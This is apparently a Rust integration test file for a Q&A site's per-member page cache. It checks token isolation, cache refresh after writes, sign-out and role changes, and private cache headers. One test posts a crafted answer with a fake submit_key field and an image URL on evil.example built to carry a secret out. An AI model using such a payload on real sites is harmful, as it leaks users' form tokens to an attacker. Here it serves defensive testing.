//! The page cache for signed-in members: each member's question page is
//! kept for them alone, with their form token, a new submit key and their
//! unread count filled in per request, and rendered again after any write
//! of theirs or any change of the page.

use std::time::{Duration, Instant};

use actix_web::test;
use signpost::auth::Role;

use crate::fixtures::{field_value, Post, Question, BODY};
use crate::harness::{csrf_of, until_cached, Client, Page, TestApp};

/// GETs `path` as `client` until it comes from the cache.
async fn hit(client: &Client<'_>, path: &str) -> Page {
    until_cached(path, || client.get(path)).await
}

/// The next page at `path` for `client`: rendered anew (a miss).
async fn fresh(client: &Client<'_>, path: &str) -> Page {
    let page = client.get(path).await;
    assert_eq!(page.status, 200, "{path}: {}", page.body);
    assert_eq!(page.header("x-cache"), "miss", "{path} after a change");
    page
}

/// The account link of the header: whose page this is.
fn account_of(name: &str) -> String {
    format!("title=\"Account settings\">{name}</a>")
}

/// Up-votes shown as the viewer's own.
fn own_votes(page: &Page) -> usize {
    page.body.matches("vote-btn voted").count()
}

#[actix_web::test]
async fn members_alternating_on_one_page_each_get_only_their_own() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let bob = app.member("bob").await;
    let cat = app.member("cat").await;
    let dan = app.member("dan").await;
    let q = ann
        .asks("Printer prints blank pages", BODY, "printer")
        .await;
    let answer = bob.answers(&q, "Shake the toner cartridge.").await;
    assert_eq!(cat.votes(&answer, "up").await.status, 303);
    let followed = cat.submit(&q.path, &q.action("follow"), &[]).await;
    assert_eq!(followed.status, 303, "{}", followed.body);

    let first_cat = hit(&cat, &q.path).await;
    let first_dan = hit(&dan, &q.path).await;
    let cat_token = csrf_of(&first_cat.body).expect("cat's token");
    let dan_token = csrf_of(&first_dan.body).expect("dan's token");
    assert_ne!(cat_token, dan_token);
    let mut submit_keys = Vec::new();
    for _ in 0..3 {
        for (who, me, other, token, other_token) in [
            (&cat, "cat", "dan", &cat_token, &dan_token),
            (&dan, "dan", "cat", &dan_token, &cat_token),
        ] {
            let page = who.get(&q.path).await;
            assert_eq!(page.header("x-cache"), "hit", "{me}");
            assert!(page.header("cache-control").contains("private"));
            page.assert_contains(&account_of(me));
            assert!(!page.body.contains(&account_of(other)), "{me}");
            assert!(page.body.contains(token.as_str()), "{me}'s own token");
            assert!(!page.body.contains(other_token.as_str()), "{me}");
            let is_cat = me == "cat";
            assert_eq!(own_votes(&page), usize::from(is_cat), "{me}'s votes");
            assert_eq!(page.body.contains(">Unfollow</button>"), is_cat, "{me}");
            assert_eq!(page.body.contains(">Follow</button>"), !is_cat, "{me}");
            // Members see no staff controls.
            assert!(!page.body.contains("value=\"pin\""), "{me}");
            submit_keys.push(field_value(&page.body, "submit_key").expect("submit key"));
        }
    }
    let mut unique = submit_keys.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), submit_keys.len(), "a new submit key per view");

    // Cat in a second browser (another session) shares cat's page, each
    // with their own session's token.
    let phone = app.client();
    assert_eq!(
        phone
            .login("cat", crate::harness::TEST_PASSWORD)
            .await
            .status,
        303
    );
    let on_phone = hit(&phone, &q.path).await;
    let phone_token = csrf_of(&on_phone.body).expect("phone's token");
    assert_ne!(phone_token, cat_token);
    assert!(!on_phone.body.contains(cat_token.as_str()));
    on_phone.assert_contains(&account_of("cat"));
    let on_laptop = hit(&cat, &q.path).await;
    assert!(on_laptop.body.contains(cat_token.as_str()));
    assert!(!on_laptop.body.contains(phone_token.as_str()));

    // The forms of a cached page work: dan answers through its form.
    let page = hit(&dan, &q.path).await;
    let sent = dan
        .post(
            &q.action("answers"),
            &[
                ("csrf", &csrf_of(&page.body).expect("token")),
                (
                    "submit_key",
                    &field_value(&page.body, "submit_key").expect("key"),
                ),
                ("body", "Clean the drum unit with a dry cloth."),
            ],
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    fresh(&dan, &q.path)
        .await
        .assert_contains("Clean the drum unit");
}

#[actix_web::test]
async fn a_members_own_writes_show_on_their_next_request() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let bob = app.member("bob").await;
    let cat = app.member("cat").await;
    let q = ann.asks("Scanner feeds two sheets", BODY, "scanner").await;
    let answer = bob.answers(&q, "Fan the paper before loading.").await;

    let page = hit(&cat, &q.path).await;
    assert_eq!(own_votes(&page), 0);
    assert_eq!(cat.votes(&answer, "up").await.status, 303);
    assert_eq!(own_votes(&fresh(&cat, &q.path).await), 1, "the vote shows");

    let page = hit(&cat, &q.path).await;
    assert!(page.body.contains(">Follow</button>"));
    let token = csrf_of(&page.body).expect("token");
    let followed = cat.post(&q.action("follow"), &[("csrf", &token)]).await;
    assert_eq!(followed.status, 303, "{}", followed.body);
    fresh(&cat, &q.path)
        .await
        .assert_contains(">Unfollow</button>");

    hit(&cat, &q.path).await;
    let commented = cat
        .submit(
            &q.path,
            &q.action("comments"),
            &[("body", "Does it happen with thicker paper too?")],
        )
        .await;
    assert_eq!(commented.status, 303, "{}", commented.body);
    fresh(&cat, &q.path)
        .await
        .assert_contains("Does it happen with thicker paper too?");

    // A write elsewhere (a setting) also renders their pages again.
    hit(&cat, &q.path).await;
    let renamed = cat
        .submit(
            "/account",
            "/account/profile",
            &[("display_name", "Cat Rivers")],
        )
        .await;
    assert_eq!(renamed.status, 303, "{}", renamed.body);
    fresh(&cat, &q.path).await.assert_contains("Cat Rivers");

    // A draft kept from a form sent after the session lapsed shows once
    // they are signed in again.
    hit(&cat, &q.path).await;
    let token = csrf_of(&cat.get(&q.path).await.body).expect("token");
    lapse_sessions(&app, "cat");
    let kept = cat
        .post(
            &q.action("answers"),
            &[("csrf", &token), ("body", "Draft: try the other tray.")],
        )
        .await;
    assert_eq!(kept.status, 303, "{}", kept.body);
    assert!(kept.header("location").starts_with("/login"));
    assert_eq!(
        cat.login("cat", crate::harness::TEST_PASSWORD).await.status,
        303
    );
    let page = cat.get(&q.path).await;
    page.assert_contains(&account_of("Cat Rivers"));
    page.assert_contains("Draft: try the other tray.");
}

fn lapse_sessions(app: &TestApp, name: &str) {
    use diesel::prelude::*;
    use signpost::db::schema::sessions;
    let mut conn = app.started().state.db.get().expect("db");
    let user = app.user_id(name);
    diesel::update(sessions::table.filter(sessions::user_id.eq(user)))
        .set(sessions::expires_at.eq(signpost::db::unix_now() - 1))
        .execute(&mut conn)
        .expect("lapse");
}

#[actix_web::test]
async fn another_members_answer_shows_to_a_member_with_the_page_cached() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let bob = app.member("bob").await;
    let cat = app.member("cat").await;
    let q = ann.asks("Monitor flickers at night", BODY, "monitor").await;
    let other = ann.asks("Mouse double clicks", BODY, "mouse").await;
    hit(&cat, &q.path).await;
    hit(&cat, &other.path).await;
    bob.answers(&q, "Lower the refresh rate to 60 Hz.").await;
    fresh(&cat, &q.path)
        .await
        .assert_contains("Lower the refresh rate to 60 Hz.");
    assert_eq!(
        cat.get(&other.path).await.header("x-cache"),
        "hit",
        "another member's write leaves cat's other pages"
    );
}

#[actix_web::test]
async fn after_sign_out_the_page_carries_no_trace_of_the_member() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let cat = app.member("cat").await;
    let q = ann.asks("Keyboard misses keys", BODY, "keyboard").await;
    let page = hit(&cat, &q.path).await;
    let token = csrf_of(&page.body).expect("token");
    let out = cat.post("/logout", &[("csrf", &token)]).await;
    assert_eq!(out.status, 303, "{}", out.body);
    assert!(!cat.has_session());
    for _ in 0..2 {
        let page = cat.get(&q.path).await;
        assert_eq!(page.status, 200);
        assert_ne!(page.header("x-cache"), "bypass", "an anonymous page");
        assert!(!page.body.contains(&account_of("cat")));
        assert!(!page.body.contains(&token), "no trace of the session");
        assert!(!page.body.contains("action=\"/logout\""));
    }
}

#[actix_web::test]
async fn role_changes_and_suspensions_take_effect_at_once() {
    let app = TestApp::guide().start();
    let admin = app.admin("rhea").await;
    let ann = app.member("ann").await;
    let cat = app.member("cat").await;
    let q = ann.asks("Speaker hums when idle", BODY, "audio").await;
    let cat_id = app.user_id("cat");

    let page = hit(&cat, &q.path).await;
    assert!(!page.body.contains("value=\"pin\""));
    let promoted = admin
        .submit(
            "/staff/users",
            &format!("/staff/users/{cat_id}/role"),
            &[("role", "staff")],
        )
        .await;
    assert_eq!(promoted.status, 303, "{}", promoted.body);
    let page = fresh(&cat, &q.path).await;
    page.assert_contains("value=\"pin\"");
    page.assert_contains("badge-staff");
    // Staff get their controls from the cache too.
    hit(&cat, &q.path).await.assert_contains("value=\"pin\"");

    let suspended = admin
        .submit(
            "/staff/users",
            &format!("/staff/users/{cat_id}/suspend"),
            &[],
        )
        .await;
    assert_eq!(suspended.status, 303, "{}", suspended.body);
    let page = cat.get(&q.path).await;
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains(&account_of("cat")),
        "signed out at once"
    );
    assert!(!page.body.contains("value=\"pin\""));
}

#[actix_web::test]
async fn the_unread_count_changes_without_a_page_change() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let bob = app.member("bob").await;
    let q = bob.asks("Tablet does not charge", BODY, "tablet").await;
    let mine = ann.asks("Phone overheats", BODY, "phone").await;
    let page = hit(&ann, &q.path).await;
    assert!(!page.body.contains("has-unread"));
    // Bob answers Ann's other question: her inbox has it, this page is
    // unchanged and still comes from her cache.
    bob.answers(&mine, "Take the case off while charging.")
        .await;
    let page = ann.get(&q.path).await;
    assert_eq!(page.header("x-cache"), "hit");
    page.assert_contains("Inbox <span class=\"count\">1</span>");
    // Bob's page never shows her count.
    let bobs = hit(&bob, &q.path).await;
    assert!(!bobs.body.contains("has-unread"));
    // Read, the count is gone from the same cached page.
    assert_eq!(ann.get("/notifications").await.status, 200);
    let page = ann.get(&q.path).await;
    assert_eq!(page.header("x-cache"), "hit");
    assert!(!page.body.contains("has-unread"), "read");
}

#[actix_web::test]
async fn staff_and_members_never_share_a_cached_page() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let sam = app.staff("sam").await;
    let cat = app.person("cat", Role::Member).await;
    let q = ann.asks("Webcam image is dark", BODY, "webcam").await;
    for _ in 0..2 {
        let staff = hit(&sam, &q.path).await;
        staff.assert_contains("value=\"pin\"");
        staff.assert_contains(&account_of("sam"));
        let member = hit(&cat, &q.path).await;
        assert!(!member.body.contains("value=\"pin\""));
        assert!(!member.body.contains(&account_of("sam")));
        member.assert_contains(&account_of("cat"));
        let asker = hit(&ann, &q.path).await;
        asker.assert_contains(&account_of("ann"));
        assert!(!asker.body.contains(&account_of("cat")));
    }
    let cache = &app.started().state.page_cache;
    assert!(cache.member_pages() >= 3, "one page per member");
    assert!(cache.member_bytes() > 0);
}

#[actix_web::test]
async fn a_members_write_on_one_node_shows_on_the_other_node() {
    let a = TestApp::guide().start();
    let database = a.config.database().url();
    let b = TestApp::guide()
        .configure(move |c| c.database_url = database)
        .start();
    let ann = a.member("ann").await;
    let bob = a.member("bob").await;
    let cat = a.member("cat").await;
    let q: Question = ann.asks("Laptop fan is loud", BODY, "laptop").await;
    bob.answers(&q, "Clean the vents with compressed air.")
        .await;
    // Cat's browser on node b.
    let on_b = b.client();
    let get_b = |path: &str| {
        on_b.send(
            test::TestRequest::get()
                .uri(path)
                .insert_header(("cookie", cat.cookies())),
        )
    };
    // Node b has read every change so far: what it caches now stays
    // current until a new change.
    b.started().state.page_feed.catch_up().expect("feed");
    let deadline = Instant::now() + Duration::from_secs(10);
    let token = loop {
        let page = get_b(&q.path).await;
        page.assert_contains(&account_of("cat"));
        if page.header("x-cache") == "hit" {
            assert!(page.body.contains(">Follow</button>"));
            break csrf_of(&page.body).expect("token");
        }
        assert!(Instant::now() < deadline, "never cached on node b");
        actix_web::rt::time::sleep(Duration::from_millis(50)).await;
    };
    // Following changes no page but cat's (nothing in the search outbox).
    let followed = cat.post(&q.action("follow"), &[("csrf", &token)]).await;
    assert_eq!(followed.status, 303, "{}", followed.body);
    // The page the follow redirects to, from node b at once, before b's
    // next read of the feed: rendered, not b's copy from before.
    let next = get_b(&q.path).await;
    assert_ne!(
        next.header("x-cache"),
        "hit",
        "b's copy from before the follow"
    );
    next.assert_contains(">Unfollow</button>");
    let written = Instant::now();
    loop {
        if get_b(&q.path).await.body.contains(">Unfollow</button>") {
            break;
        }
        assert!(
            written.elapsed() < Duration::from_secs(10),
            "node b kept serving cat's page from before the follow"
        );
        actix_web::rt::time::sleep(Duration::from_millis(50)).await;
    }
}

#[actix_web::test]
async fn text_in_a_post_that_looks_like_a_submit_key_field_is_left_alone() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let bob = app.member("bob").await;
    let mal = app.member("mal").await;
    let cat = app.member("cat").await;
    let q = ann
        .asks("Firmware download does not verify", BODY, "firmware")
        .await;
    let checksum = "9f".repeat(32);
    bob.answers(&q, &format!("The image's SHA-256 is {checksum}."))
        .await;
    // A quoted form field naming the same value, next to an image whose
    // address would carry whatever fills that value in.
    mal.answers(
        &q,
        &format!(
            "`name=\"submit_key\" value=\"{checksum}\"` ![d](https://evil.example/{checksum}.png)"
        ),
    )
    .await;
    // As a guest sees it: Bob's answer, Mal's code and image (and the
    // page's structured data) show the checksum as written.
    let written = app
        .client()
        .get(&q.path)
        .await
        .body
        .matches(&checksum)
        .count();
    assert!(written >= 3, "{written}");
    let page = hit(&cat, &q.path).await;
    let again = hit(&cat, &q.path).await;
    for page in [&page, &again] {
        assert_eq!(page.body.matches(&checksum).count(), written);
        assert!(page
            .body
            .contains(&format!("https://evil.example/{checksum}.png")));
    }
    // The live key of the form is new per view and nowhere but in the form.
    let key = |page: &Page| {
        let form = &page.body[page
            .body
            .find("<input type=\"hidden\" name=\"submit_key\"")
            .expect("form")..];
        field_value(form, "submit_key").expect("submit key")
    };
    let (first, second) = (key(&page), key(&again));
    assert_ne!(first, second, "a new submit key per view");
    assert_ne!(first, checksum);
    assert_eq!(again.body.matches(&second).count(), 1, "only in the form");
}

#[actix_web::test]
async fn every_page_a_member_is_served_is_private() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let q = ann
        .asks("Scanner lid light stays on", BODY, "scanner")
        .await;
    // A first view (rendered), a hit, and pages the member cache does not keep.
    let first = ann.get(&q.path).await;
    assert_eq!(first.header("x-cache"), "miss");
    let cached = hit(&ann, &q.path).await;
    for page in [
        &first,
        &cached,
        &ann.get("/questions").await,
        &ann.get("/").await,
    ] {
        assert_eq!(page.status, 200);
        assert!(
            page.header("cache-control").contains("private"),
            "{}",
            page.header("cache-control")
        );
    }
    // A guest's copy of the same page may be kept by a shared cache.
    let guest = app.client().get(&q.path).await;
    assert!(!guest.header("cache-control").contains("private"));
}

#[actix_web::test]
async fn a_preview_while_writing_keeps_the_members_cached_page() {
    let app = TestApp::guide().start();
    let ann = app.member("ann").await;
    let cat = app.member("cat").await;
    let q = ann.asks("Display flickers at night", BODY, "display").await;

    let page = hit(&cat, &q.path).await;
    let token = csrf_of(&page.body).expect("token");
    for text in ["*Try*", "*Try a lower*", "*Try a lower refresh rate*"] {
        let preview = cat
            .post("/api/preview", &[("csrf", &token), ("body", text)])
            .await;
        assert_eq!(preview.status, 200, "{}", preview.body);
        assert!(preview.body.contains("<em>"), "{}", preview.body);
        let again = cat.get(&q.path).await;
        assert_eq!(again.header("x-cache"), "hit", "after previewing {text}");
    }
    // A real write still renders the page again.
    let answered = cat
        .post(
            &q.action("answers"),
            &[("csrf", &token), ("body", "Try a lower refresh rate.")],
        )
        .await;
    assert_eq!(answered.status, 303, "{}", answered.body);
    fresh(&cat, &q.path)
        .await
        .assert_contains("Try a lower refresh rate.");
}
